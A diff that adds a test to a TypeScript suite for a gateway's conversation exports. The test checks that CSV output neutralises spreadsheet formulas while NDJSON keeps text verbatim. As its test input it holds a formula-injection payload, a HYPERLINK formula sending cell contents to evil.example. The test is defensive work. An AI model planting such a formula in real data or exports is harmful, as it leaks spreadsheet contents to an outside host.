@@ -152,6 +152,30 @@ describe('streamed exports of the synced store', () => {
     expect(counted).toEqual({ 'kind=cost-lines,outcome=complete': 1, 'kind=conversations,outcome=failed': 1 });
     expect(await scrape('switchboard_exports_in_progress')).toEqual({ 'kind=conversations': 0, 'kind=cost-lines': 0, 'kind=transcript-messages': 0 });
   });
+
+  it('writes a provider\'s text that a spreadsheet would run as a formula with a leading quote in CSV, as sent in NDJSON, and numbers as they are', async () => {
+    // A caller's words reach a summary or a transcript: this one, exported verbatim, ran as a
+    // formula in the analyst's spreadsheet (a security trial).
+    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
+    const workspace = gateway.demo.workspaces.find((each) => each.id === 'demo')!;
+    const trata = workspace.providers.trata!;
+    const agents = (await (await fetch(`${trata.baseUrl}/v1/agents?page=1&limit=1`, { headers: { authorization: `Bearer ${trata.token}` } })).json()) as { data: { id: string }[] };
+    const created = await fetch(`${trata.baseUrl}/v1/conversations`, {
+      method: 'POST',
+      headers: { authorization: `Bearer ${trata.token}`, 'content-type': 'application/json' },
+      body: JSON.stringify({ sourceType: 'phone', agentId: agents.data[0]!.id, transcriptSummary: formula }),
+    });
+    expect(created.status).toBe(200);
+    await gateway.runtime.live.sync.syncOnce();
+    // NDJSON keeps the text as sent (its readers are programs); the create's answer names no id, its text does.
+    const ndjson = (await (await get('/exports/conversations.ndjson?providers=TRATA')).text()).trim().split('\n').map((line) => JSON.parse(line) as Record<string, unknown>);
+    const planted = ndjson.filter((each) => each.summary === formula);
+    expect(planted).toHaveLength(1);
+    const csv = parseCsv(await (await get('/exports/conversations.csv?providers=TRATA')).text());
+    expect(csv.rows.find((each) => each.native_id === planted[0]!.native_id)?.summary).toBe(`'${formula}`);
+    // Numbers (a negative amount, an E.164 number) are not formulas to any spreadsheet: left as they are.
+    expect(csv.rows.filter((each) => each.from_number?.startsWith("'") || each.to_number?.startsWith("'") || each.cost_total?.startsWith("'"))).toEqual([]);
+  });
 });
 
 /** Reads the first bytes of an export, then hangs up; resolves once the gateway reports the export's end. */
